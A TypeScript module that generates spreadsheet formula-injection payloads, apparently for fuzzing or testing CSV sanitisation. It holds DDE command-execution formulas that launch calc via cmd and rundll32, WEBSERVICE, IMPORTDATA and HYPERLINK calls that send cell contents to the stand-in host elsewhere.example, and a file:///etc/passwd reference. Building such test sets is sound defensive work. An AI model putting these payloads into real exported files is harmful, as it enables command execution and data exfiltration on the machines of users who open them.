import { type Payload, product } from './payload.ts';

const SIGNS = Array.from('=+-@＝＋－＠﹦﹢﹣﹫');
/** What programs skip, split at or do not show. */
const BEFORE = [
  '',
  ' ',
  '  ',
  '\t',
  '\n',
  '\r',
  '\r\n',
  '\u00a0',
  '\u3000',
  '\u200b',
  '\ufeff',
  '\u200e',
  '\u2009',
  "'",
  '"',
  ',',
  ';',
  '|',
  '","',
  '"\r\n',
];
const BODIES = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://elsewhere.example/?"&A1,"点这里")',
  'IMPORTXML(CONCAT("http://elsewhere.example/",A1),"//a")',
];
/** Behind an equals sign: what reaches out of the sheet. */
const REACHING_OUT = [
  "SUM(1+9)*cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  'WEBSERVICE("http://elsewhere.example/"&A1)',
  'IMAGE("http://elsewhere.example/x.png")',
  'IMPORTDATA("http://elsewhere.example/x")',
  "'file:///etc/passwd'#$passwd.A1",
  'INDIRECT("Sheet1!A1")',
  '-2+3+cmd|" /C calc"!A0',
];

export const formulaPayloads = (): readonly Payload[] => [
  ...product(BEFORE, SIGNS, (before, sign) => before + sign).flatMap((start) =>
    BODIES.map((body) => ({ family: 'formula', text: start + body })),
  ),
  ...product(BEFORE.slice(0, 4), REACHING_OUT, (before, body) => ({ family: 'formula', text: `${before}=${body}` })),
];
